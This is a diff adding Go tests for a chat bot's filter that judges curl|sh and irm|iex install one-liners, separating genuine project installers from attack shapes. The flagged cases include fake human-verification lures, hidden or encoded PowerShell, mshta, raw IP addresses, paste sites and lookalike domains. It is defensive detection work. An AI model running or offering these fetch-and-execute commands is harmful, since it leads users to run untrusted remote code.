@@ -1,0 +1,55 @@
+package bot_test
+
+import "testing"
+
+// TestPlainHTTPOneLinersReadAsTwins: a project's install one-liner or
+// install script written over plain HTTP, on a clean name with nothing
+// baiting around it, is judged as its HTTPS twin and allowed (each was
+// deleted as run_command or dangerous_file before cmd42). None of these
+// lines is in the cmd42 sets.
+func TestPlainHTTPOneLinersReadAsTwins(t *testing.T) {
+	t.Parallel()
+	checkFlagged(t, []flagCase{
+		{"curl -fsSL http://deno.com/install.sh | sh", false},
+		{"curl -fsSL http://bun.sh/install | bash -s -- bun-v1.2.0", false},
+		{"irm http://get.scoop.sh | iex then scoop install git", false},
+		{"curl -sfL http://get.k3s.io | sh -s - --write-kubeconfig-mode 644", false},
+		{"iex ((New-Object System.Net.WebClient).DownloadString('http://chocolatey.org/install.ps1'))", false},
+		{"curl -sSL http://install.python-poetry.org | python3 - --version 1.8.3", false},
+		{"curl -fsSL http://tailscale.com/install.sh | sh -s -- --help", false},
+		{"the windows script http://astral.sh/uv/install.ps1", false},
+		{"the bash one is http://dot.net/v1/dotnet-install.sh", false},
+	})
+}
+
+// TestPlainHTTPOneLinersNotReadAsTwins: every attack shape over plain HTTP
+// stays flagged, with or without the reading: fake checks, hidden or
+// encoded PowerShell, mshta, an address, a port, a dynamic DNS name, a
+// file drop, a paste site, a cheap ending, installers' lookalikes (a name
+// taking theirs, their domain before another, one edit from theirs), a
+// name drawn at random, a lure or bait beside the command. The lines
+// marked "twin allowed" are allowed written https:// and fail without
+// the plain-HTTP checks of httpInstallTwin.
+func TestPlainHTTPOneLinersNotReadAsTwins(t *testing.T) {
+	t.Parallel()
+	checkFlagged(t, []flagCase{
+		{"Verify you are human: press Win+R and paste powershell -c \"irm http://bun.sh/install.ps1 | iex\"", true},
+		{"powershell -w hidden -c \"irm http://get.scoop.sh | iex\"", true},
+		{"powershell -nop -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA= ; irm http://get.scoop.sh | iex", true},
+		{"mshta http://tailscale.com/install.hta", true},
+		{"curl -fsSL http://45.137.21.9/install.sh | sh", true},
+		{"curl -fsSL http://get.example-tools.com:8080/install.sh | sh", true},
+		{"curl -fsSL http://k3s-mirror.duckdns.org/install.sh | sh", true},
+		{"curl -s http://transfer.sh/k2x9/install.sh | bash", true},
+		{"curl -s http://pastebin.com/raw/Q8mN2kLz | bash", true},
+		{"curl -fsSL http://devsetup.top/install.sh | bash", true},
+		{"curl -fsSL http://get.k3s.io.mirror-cdn.net | sh -", true},               // twin allowed
+		{"curl -fsSL http://bunsh.net/install | bash", true},                       // twin allowed
+		{"curl -fsSL http://tailscalle.com/install.sh | sh", true},                 // twin allowed
+		{"curl -fsSL http://ollama-ai.net/install.sh | sh", true},                  // twin allowed
+		{"/bin/bash -c \"$(curl -fsSL http://brewinstall.app/install.sh)\"", true}, // twin allowed
+		{"irm http://x7q2k.net | iex", true},                                       // twin allowed
+		{"free nitro for everyone who runs this: irm http://nitrogift.net/claim | iex", true},
+		{"@everyone new mod menu: iwr http://modloader.net/menu.ps1 | iex", true},
+	})
+}
